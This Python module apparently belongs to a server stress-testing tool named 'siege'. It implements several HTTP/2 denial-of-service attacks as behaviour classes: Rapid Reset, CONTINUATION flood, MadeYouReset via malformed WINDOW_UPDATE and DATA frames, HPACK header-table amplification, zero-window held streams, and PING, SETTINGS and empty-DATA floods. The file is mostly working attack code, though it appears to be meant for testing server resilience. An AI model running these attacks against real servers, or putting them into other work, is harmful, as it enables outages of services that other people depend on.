"""What attackers send over HTTP/2: one class an attack, for `siege`."""

from . import h2frames
from .h2frames import CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW, NEWEST, PING
from .siege import Behaviour, Link

# Largest head that the server takes, by its SETTINGS_MAX_HEADER_LIST_SIZE; less what a request needs besides.
LIST_SIZE, REST = 64 << 10, 600
# One frame of CONTINUATION: below 16 KiB, which everybody takes.
CONTINUED = 16_000
# Small frames that leave in one piece.
BATCH = 500


class Held(Behaviour):
    """Opens as many streams as it may, takes no byte of any answer, and opens another one for each that ends."""

    settings = {INITIAL_WINDOW: 0}

    def __init__(self, plan: dict, number: int):
        super().__init__(plan, number)
        self.open: set[int] = set()

    def block(self) -> bytes:
        raise NotImplementedError

    def more(self, link: Link) -> bytes:
        most = min(link.max_streams, self.plan.get("streams", link.max_streams))
        if len(self.open) >= most:
            return b""
        self.open.add(self.next_stream())
        block = self.block()
        self.sent += 1
        return h2frames.frame(HEADERS, END_HEADERS | END_STREAM, self.stream, block)

    def ended(self, link: Link, stream: int, how: str) -> None:
        self.open.discard(stream)


class Heads(Held):
    """Heads of 2 KB that say one entry of the dynamic table as often as the list's size lets them."""

    field = (b"a", b"")

    def __init__(self, plan: dict, number: int):
        super().__init__(plan, number)
        name, value = self.field
        size = (len(name) if isinstance(name, bytes) else len(b"cookie")) + len(value) + h2frames.FIELD_OVERHEAD
        again = h2frames.indexed(NEWEST) * ((LIST_SIZE - REST) // size - 1)
        self.first = h2frames.request(plan["absent"], more=h2frames.literal(name, value, keep=True) + again)
        self.next = h2frames.request(plan["absent"], more=again)

    def block(self) -> bytes:
        return self.first if self.stream == 1 else self.next


class Crumbs(Heads):
    """The same with cookies, which may be cut into as many fields as one likes."""

    field = (h2frames.COOKIE, b"a=b")


class Windows(Held):
    """Asks for a different blob on each stream."""

    def block(self) -> bytes:
        paths = self.plan["paths"]
        most = self.plan["streams"]
        return h2frames.request(paths[(self.number * most + self.sent) % len(paths)])


def _blocks(plan: dict) -> list[bytes]:
    """Made once: attackers are thrown out and come again thousands of times."""
    return plan.setdefault("blocks", [h2frames.request(path) for path in plan["paths"]])


class RapidReset(Behaviour):
    def __init__(self, plan: dict, number: int):
        super().__init__(plan, number)
        self.blocks = _blocks(plan)

    def more(self, link: Link) -> bytes:
        pieces = []
        for _ in range(BATCH):
            stream = self.next_stream()
            block = self.blocks[self.sent % len(self.blocks)]
            pieces += [h2frames.frame(HEADERS, END_HEADERS | END_STREAM, stream, block), h2frames.reset(stream)]
            self.sent += 1
        return b"".join(pieces)


class Continuation(Behaviour):
    """A head that never ends: by turns of fields, and of nothing."""

    unit = "frames"

    def __init__(self, plan: dict, number: int):
        super().__init__(plan, number)
        field = h2frames.literal(b"x-endless", b"x" * 1000)
        block = field * (CONTINUED // len(field)) if number % 2 else b""
        self.frames = 4 if number % 2 else BATCH
        self.batch = h2frames.frame(CONTINUATION, 0, 1, block) * self.frames

    def more(self, link: Link) -> bytes:
        if self.stream < 0:
            return h2frames.frame(HEADERS, END_STREAM, self.next_stream(), h2frames.request(self.plan["absent"]))
        self.sent += self.frames
        return self.batch


class MadeYouReset(Behaviour):
    """Has the server reset its streams: what they began goes on unless it is told. By turns with an increment of 0, with one beyond
    the largest window, and with a body after the end."""

    def __init__(self, plan: dict, number: int):
        super().__init__(plan, number)
        self.blocks = _blocks(plan)
        self.fault = (
            lambda stream: h2frames.window_update(stream, 0),
            lambda stream: h2frames.window_update(stream, h2frames.MOST_WINDOW),
            lambda stream: h2frames.frame(DATA, 0, stream, b"x"),
        )[number % 3]

    def more(self, link: Link) -> bytes:
        pieces = []
        for _ in range(min(link.max_streams, BATCH)):
            stream = self.next_stream()
            block = self.blocks[self.sent % len(self.blocks)]
            pieces += [h2frames.frame(HEADERS, END_HEADERS | END_STREAM, stream, block), self.fault(stream)]
            self.sent += 1
        return b"".join(pieces)


class Small(Behaviour):
    """The same small frame without end; every other connection does not take what the server says to it."""

    unit = "frames"
    one = b""

    def __init__(self, plan: dict, number: int):
        super().__init__(plan, number)
        self.reads = number % 2 == 0
        self.batch = self.one * BATCH

    def more(self, link: Link) -> bytes:
        self.sent += BATCH
        return self.batch


class Pings(Small):
    one = h2frames.frame(PING, 0, 0, b"entrepot")


class Settings(Small):
    one = h2frames.settings({INITIAL_WINDOW: 65_535})


class EmptyData(Behaviour):
    """Uploads of nothing but empty frames, one after the other as they are refused."""

    unit = "frames"

    def __init__(self, plan: dict, number: int):
        super().__init__(plan, number)
        self.under_way = False

    def more(self, link: Link) -> bytes:
        if not self.under_way:
            self.under_way = True
            uploads = self.plan["uploads"]
            block = h2frames.request(uploads[self.number % len(uploads)], "PATCH")
            return h2frames.frame(HEADERS, END_HEADERS, self.next_stream(), block)
        self.sent += BATCH
        return h2frames.frame(DATA, 0, self.stream) * BATCH

    def ended(self, link: Link, stream: int, how: str) -> None:
        self.under_way = self.under_way and stream != self.stream
